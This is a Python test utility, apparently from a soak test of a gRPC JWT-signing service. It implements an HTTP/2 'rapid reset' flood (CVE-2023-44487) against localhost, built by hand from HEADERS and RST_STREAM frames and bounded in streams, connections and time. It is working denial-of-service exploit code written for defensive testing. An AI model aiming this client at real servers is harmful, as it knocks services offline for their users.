"""h2reset.py - an HTTP/2 "rapid reset" client (CVE-2023-44487) for the soak test.

Opens an mTLS connection (ALPN h2) with a caller's certificate and sends, in
batches, a HEADERS frame opening a SignJwt stream followed at once by
RST_STREAM(CANCEL) for it (RFC 9113 sections 6.2 and 6.4), so the server
pays for a stream the client never lets finish. The frames and the HPACK
header block (RFC 7541: static-table indices and literals without indexing, no
Huffman coding) are built by hand: python3-grpcio cannot send RST_STREAM
floods, and no HTTP/2 library is needed for a handful of frame types.

Bounded in streams, connections and time. If the server closes the
connection or sends GOAWAY (as a server defending itself should), the client
reconnects, at most `max_connections` times in all. Returns counters for the
test's figures; never raises for what the server does, only for a failure to
make the first connection.

Standard library only.
"""

import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
T_DATA, T_HEADERS, T_RST, T_SETTINGS, T_PING, T_GOAWAY, T_WINDOW = 0, 1, 3, 4, 6, 7, 8
F_ACK, F_END_HEADERS = 0x1, 0x4
CANCEL = 0x8
MAX_STREAM_ID = 2**31 - 1
MAX_FRAME_READ = 1 << 24  # a frame length field holds 24 bits (RFC 9113 section 4.1)


def frame(ftype, flags, stream, payload=b""):
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream & MAX_STREAM_ID) + payload


def _hstr(text):
    data = text.encode("ascii") if isinstance(text, str) else text
    if len(data) >= 127:
        raise ValueError("header string too long for this encoder")
    return bytes([len(data)]) + data  # H bit 0: no Huffman coding


def header_block(path, authority):
    """HPACK block for a gRPC POST (RFC 7541 appendix A static table)."""
    return (b"\x83"                          # :method POST (indexed, 3)
            + b"\x87"                        # :scheme https (indexed, 7)
            + b"\x04" + _hstr(path)          # :path (name 4), literal without indexing
            + b"\x01" + _hstr(authority)     # :authority (name 1)
            + b"\x0f\x10" + _hstr("application/grpc")  # content-type (name 31 = 15 + 16)
            + b"\x00" + _hstr("te") + _hstr("trailers"))


class _Conn:
    def __init__(self, port, ca, cert, key, io_timeout):
        ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=ca)
        ctx.load_cert_chain(cert, key)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=io_timeout)
        try:
            self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        except (OSError, ssl.SSLError):
            raw.close()
            raise
        if self.sock.selected_alpn_protocol() != "h2":
            self.sock.close()
            raise OSError("server did not select ALPN h2")
        self.local_port = self.sock.getsockname()[1]
        self.buf = b""
        self.closed = False
        self.goaway = None  # error code of a GOAWAY received
        self.sock.sendall(PREFACE + frame(T_SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def drain(self, wait=0.0):
        """Reads what the server sent; answers SETTINGS and PING; notes GOAWAY and EOF."""
        received = 0
        end = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, end - time.monotonic())
            if self.sock.pending() == 0:
                r, _, _ = select.select([self.sock], [], [], left)
                if not r:
                    break
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                break
            except (OSError, ssl.SSLError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            received += len(data)
            self.buf += data
            self._frames()
        return received

    def _frames(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if length > MAX_FRAME_READ or len(self.buf) < 9 + length:
                return
            ftype, flags = self.buf[3], self.buf[4]
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if ftype == T_SETTINGS and not flags & F_ACK:
                self.send(frame(T_SETTINGS, F_ACK, 0))
            elif ftype == T_PING and not flags & F_ACK and length == 8:
                self.send(frame(T_PING, F_ACK, 0, payload))
            elif ftype == T_GOAWAY and length >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(port, ca, cert, key, streams, time_limit, batch=200, max_connections=20,
                io_timeout=5.0, path="/jwtsigner.v1.Signer/SignJwt", rate=None, stop=None):
    """Sends up to `streams` HEADERS+RST_STREAM pairs within time_limit seconds,
    at most `rate` pairs a second if given, until the threading.Event `stop`
    (if given) is set.

    Returns a dict: streams (pairs sent), connections (opened), goaways (list of
    error codes), server_closes (connections the server ended), local_ports
    (the client ports used, to find the server's log lines), elapsed_s,
    bytes_in.
    """
    block = header_block(path, "localhost")
    stats = {"streams": 0, "connections": 0, "goaways": [], "server_closes": 0,
             "local_ports": [], "elapsed_s": 0.0, "bytes_in": 0}
    start = time.monotonic()
    conn = None
    sid = 1
    try:
        while stats["streams"] < streams and time.monotonic() - start < time_limit \
                and not (stop is not None and stop.is_set()):
            if rate:
                ahead = stats["streams"] / rate - (time.monotonic() - start)
                if ahead > 0:
                    time.sleep(min(ahead, 0.5))
                    continue
            if conn is None or conn.closed or conn.goaway is not None or sid > MAX_STREAM_ID - 2:
                if conn is not None:
                    if conn.goaway is not None:
                        stats["goaways"].append(conn.goaway)
                    elif conn.closed:
                        stats["server_closes"] += 1
                    conn.close()
                    conn = None
                if stats["connections"] >= max_connections:
                    break
                try:
                    conn = _Conn(port, ca, cert, key, io_timeout)
                except (OSError, ssl.SSLError):
                    if stats["connections"] == 0:
                        raise
                    stats["connections"] += 1  # a refused attempt counts against the bound
                    time.sleep(0.1)
                    continue
                stats["connections"] += 1
                stats["local_ports"].append(conn.local_port)
                stats["bytes_in"] += conn.drain(wait=0.2)
                sid = 1
            n = min(batch, streams - stats["streams"])
            out = bytearray()
            for _ in range(n):
                out += frame(T_HEADERS, F_END_HEADERS, sid, block)
                out += frame(T_RST, 0, sid, struct.pack(">I", CANCEL))
                sid += 2
            if conn.send(bytes(out)):
                stats["streams"] += n
            stats["bytes_in"] += conn.drain()
        if conn is not None:
            stats["bytes_in"] += conn.drain(wait=0.2)
            if conn.goaway is not None:
                stats["goaways"].append(conn.goaway)
            elif conn.closed:
                stats["server_closes"] += 1
    finally:
        if conn is not None:
            conn.close()
        stats["elapsed_s"] = time.monotonic() - start
    return stats
